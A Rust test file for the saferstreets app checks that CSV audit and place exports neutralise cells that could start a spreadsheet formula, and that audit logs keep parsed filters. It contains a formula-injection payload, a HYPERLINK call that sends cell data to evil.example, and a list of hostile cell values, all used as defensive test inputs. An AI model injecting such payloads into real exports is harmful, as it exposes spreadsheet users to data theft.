//! Attacks: exports (issue 12, item 3). A partner's export URL `…/export.csv?=HYPERLINK(…)`
//! reached the admins' audit CSV as a cell starting with `=`, which a spreadsheet runs as a
//! formula. Every CSV cell that could start a formula now starts with `'` (the OWASP rule),
//! and the audit log keeps the parsed filters of an export, never its raw query string.

use saferstreets::audit::AuditEntry;
use saferstreets::domain::staff::Role;

use crate::helpers::{TEST_NOW, spawn_app};
use crate::staff::staff_browser;

/// Characters that make a spreadsheet read a cell as a formula (or hide one).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn cells(body: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.expect("row").iter().map(str::to_owned).collect())
        .collect()
}

#[tokio::test]
async fn a_formula_in_an_export_url_never_reaches_the_audit_csv_as_a_formula() {
    let app = spawn_app().await;
    let (partner, _) =
        staff_browser(&app, "pat@northshire.example", Role::Partner, "northshire").await;
    let (admin, _) = staff_browser(&app, "aud@northshire.example", Role::Admin, "northshire").await;
    // `?=HYPERLINK("https://evil.example/?d="&A1,"Click")`: a parameter with no name.
    let attack =
        "/staff/places/export.csv?=HYPERLINK(%22https://evil.example/?d=%22%26A1,%22Click%22)";
    assert_eq!(partner.get(attack).await.status, 200);
    let csv = admin.get("/staff/audit/export.csv").await;
    assert_eq!(csv.status, 200);
    let rows = cells(&csv.body);
    assert!(rows.len() > 2, "{}", csv.body);
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(FORMULA_START),
                "a cell starts a formula: {cell:?}"
            );
        }
    }
    assert!(!csv.body.contains("HYPERLINK"), "{}", csv.body);
}

#[tokio::test]
async fn the_audit_log_keeps_the_parsed_filters_of_an_export_not_its_query_string() {
    let app = spawn_app().await;
    let (analyst, _) =
        staff_browser(&app, "ana@northshire.example", Role::Analyst, "northshire").await;
    let page = analyst
        .get("/staff/places/export.geojson?res=7&from=2026-11-02&to=2026-11-20&reasons=followed&reasons=lighting&hours=21&weekdays=6&junk=%3D1%2B1")
        .await;
    assert_eq!(page.status, 200);
    let rows = app.state.store.audit_rows(0, 1_000).await.expect("audit");
    let export = rows
        .iter()
        .rev()
        .find(|r| r.entry.action == "export")
        .expect("the export is audited");
    assert_eq!(
        export.entry.detail,
        "res=7 from=2026-11-02 to=2026-11-20 reasons=lighting,followed hours=21 weekdays=6"
    );
}

#[tokio::test]
async fn every_csv_export_neutralises_cells_that_could_start_a_formula() {
    let app = spawn_app().await;
    let (admin, _) = staff_browser(&app, "aud@northshire.example", Role::Admin, "northshire").await;
    let hostile = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"];
    for text in hostile {
        app.state
            .store
            .audit(&AuditEntry {
                at: TEST_NOW,
                actor_id: None,
                actor: text.into(),
                role: String::new(),
                force_code: "northshire".into(),
                action: text.into(),
                object: text.into(),
                outcome: text.into(),
                detail: text.into(),
            })
            .await
            .expect("audit");
    }
    let csv = admin.get("/staff/audit/export.csv").await;
    let rows = cells(&csv.body);
    for text in hostile {
        let row = rows
            .iter()
            .find(|r| r.get(2).is_some_and(|c| c == &format!("'{text}")))
            .unwrap_or_else(|| panic!("{text:?} is written with a quote first: {}", csv.body));
        for i in [2, 5, 6, 7, 8] {
            assert_eq!(row[i], format!("'{text}"), "column {i}");
        }
    }
    // The hotspots export writes only our own figures: its text cells never start a formula,
    // and a cell that does start with `-` is a longitude we wrote, a number.
    let (analyst, _) =
        staff_browser(&app, "ana@northshire.example", Role::Analyst, "northshire").await;
    let at = saferstreets::geo::LatLng::new(53.8012, -1.5481).expect("point");
    let reports: Vec<_> = (0..6)
        .map(|i| saferstreets::storage::NewPlaceReport {
            receipt: format!("x{i}"),
            submission_id: format!("x{i}"),
            force_code: "northshire".into(),
            created_at: TEST_NOW,
            cells: saferstreets::geo::hex::stored_cells(at),
            day: TEST_NOW / 86_400 - 1,
            hour: 21,
            reasons: 1,
            sealed: Default::default(),
        })
        .collect();
    app.state
        .store
        .insert_place_reports(&reports)
        .await
        .expect("reports");
    let csv = analyst.get("/staff/places/export.csv?res=9").await;
    let rows = cells(&csv.body);
    assert_eq!(rows.len(), 2, "{}", csv.body);
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(FORMULA_START) || cell.parse::<f64>().is_ok(),
            "{cell:?}"
        );
    }
}
